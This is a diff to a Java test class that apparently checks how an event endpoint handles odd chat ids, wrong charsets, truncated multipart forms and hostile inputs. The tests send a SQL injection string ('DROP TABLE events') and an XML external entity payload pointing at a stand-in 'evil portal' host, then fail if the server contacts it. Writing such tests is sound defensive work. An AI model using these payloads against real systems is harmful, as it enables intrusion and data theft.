@@ -129,11 +129,12 @@ final class GroupC {
                                 "documentation and source name the chat twice")
                         .runs(run -> {
                             EventBody event = run.event();
-                            String other = Long.toString(run.mint().chat());
+                            String other = run.chat();
                             Reply reply = run.post(event.set("data[DATA][chat][chat_id]", other));
                             run.stands(reply, "two chat ids in one event");
-                            run.expect(new Expectation(event.chatId(), null, 0, 1, "one of two chat ids"));
-                            run.expect(new Expectation(other, null, 0, 1, "the other of two chat ids"));
+                            String portal = run.identity().memberId();
+                            run.expect(new Expectation(event.chatId(), portal, 0, 1, "one of two chat ids"));
+                            run.expect(new Expectation(other, portal, 0, 1, "the other of two chat ids"));
                             run.alive();
                         }),
                 numbered(
@@ -203,7 +204,8 @@ final class GroupC {
                                     run.request(event).header("Content-Type", Request.FORM + "; charset=windows-1251"));
                             run.takenOrRefused(reply, event, "charset=windows-1251");
                             if (reply.is2xx()) {
-                                run.expect(new Expectation(event.chatId(), null, 1, 1, "a name in UTF-8")
+                                run.expect(new Expectation(
+                                                event.chatId(), run.identity().memberId(), 1, 1, "a name in UTF-8")
                                         .namedIfSeen("Линия"));
                             }
                             run.alive();
@@ -316,7 +318,7 @@ final class GroupC {
         otherwise(run, "0x" + Long.toHexString(hex), List.of(Long.toString(hex), "0"));
         // Trimmed, it would still be the same chat.
         otherwise(run, " " + run.mint().chat() + " ", List.of());
-        otherwise(run, Long.toString(run.mint().chat()).replace('0', '\u0660').replace('1', '\u0661'), List.of());
+        otherwise(run, run.chat().replace('0', '\u0660').replace('1', '\u0661'), List.of());
         String long400 = "7".repeat(400);
         otherwise(
                 run,
@@ -333,8 +335,9 @@ final class GroupC {
 
     private static void otherwise(CaseRun run, String id, List<String> others) {
         EventBody event = run.event(run.identity(), id);
-        ignoredOrRefused(run, run.post(event), "a chat id that is no number");
-        others.forEach(other -> run.noEffect(other, "an event whose chat id is no number"));
+        String what = "the chat id " + (id.length() > 40 ? "of " + id.length() + " digits" : "'" + id + "'");
+        ignoredOrRefused(run, run.post(event), what);
+        others.forEach(other -> run.noEffect(other, what));
     }
 
     private static void logLine(CaseRun run) {
@@ -358,7 +361,7 @@ final class GroupC {
     }
 
     private static void injection(CaseRun run) {
-        String evil = run.run().evil().uri().getAuthority();
+        String evil = run.evil().uri().getAuthority();
         String mark = run.mint().hex(8);
         List<String> names = List.of(
                 "'; DROP TABLE events; --" + mark,
@@ -375,7 +378,7 @@ final class GroupC {
         }
         run.alive();
         run.atEnd(() -> {
-            if (run.run().evil().seen().stream()
+            if (run.evil().seen().stream()
                     .anyMatch(seen -> seen.text().contains(mark) || seen.head().isEmpty())) {
                 run.fail("no lookup of an address in a line's name", "a connection to the evil portal");
             }
@@ -389,14 +392,14 @@ final class GroupC {
                 "broken JSON");
         String mark = run.mint().hex(12);
         String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE e [<!ENTITY x SYSTEM \""
-                + run.run().evil().uri() + mark + "\">]>\n<event>&x;</event>";
+                + run.evil().uri() + mark + "\">]>\n<event>&x;</event>";
         run.refused(
                 run.send(Request.post(run.run().wire().target(), CaseRun.latin(xml))
                         .header("Content-Type", "application/xml")),
                 "XML");
         run.aliveWithoutEvidence();
         run.atEnd(() -> {
-            if (run.run().evil().seen().stream().anyMatch(seen -> seen.text().contains(mark))) {
+            if (run.evil().seen().stream().anyMatch(seen -> seen.text().contains(mark))) {
                 run.fail("no request for an XML entity", "one to the evil portal");
             }
         });
@@ -422,9 +425,9 @@ final class GroupC {
         String body = out.toString().replace(event.chatId(), second.chatId());
         byte[] cut = body.substring(0, body.length() - 12).getBytes(StandardCharsets.UTF_8);
         Reply broken = run.send(Request.post(run.run().wire().target(), cut).header("Content-Type", type));
-        run.refusedOrClosed(broken, "a multipart form without its end");
+        run.refused(broken, "a multipart form without its end");
         run.noEffect(second, "a multipart form without its end");
         run.alive();
-        run.temporaryFiles(boundary);
+        Footprint.temporaryFiles(run, boundary);
     }
 }
